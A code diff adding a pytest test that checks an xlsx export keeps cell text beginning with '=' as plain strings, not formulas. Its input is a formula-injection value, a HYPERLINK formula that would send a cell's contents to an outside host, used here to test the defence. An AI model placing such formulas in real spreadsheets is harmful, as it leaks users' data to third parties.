@@ -124,3 +124,14 @@ def test_a_project_without_findings_is_an_input_error(kb):
         from pyoxigraph import NamedNode
 
         to_table(kb, NamedNode("https://w3id.org/imri/project/none"), "soqf")
+
+
+def test_xlsx_keeps_a_statement_starting_with_equals_as_text():
+    """openpyxl stores a string that starts with "=" as a formula; a finding's words must stay words in Excel."""
+    statement = '=HYPERLINK("http://example.org/?x="&A1,"click") and = fewer staff'
+    table = Table(name="soqf", title="Summary", columns=["#", "Summarised review finding"],
+                  rows=[["F1", statement]], notes=["=note"])
+    sheet = openpyxl.load_workbook(io.BytesIO(to_bytes(table, "xlsx"))).active
+    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}
+    assert cells[statement] == "s" and cells["=note"] == "s"
+    assert "f" not in cells.values()
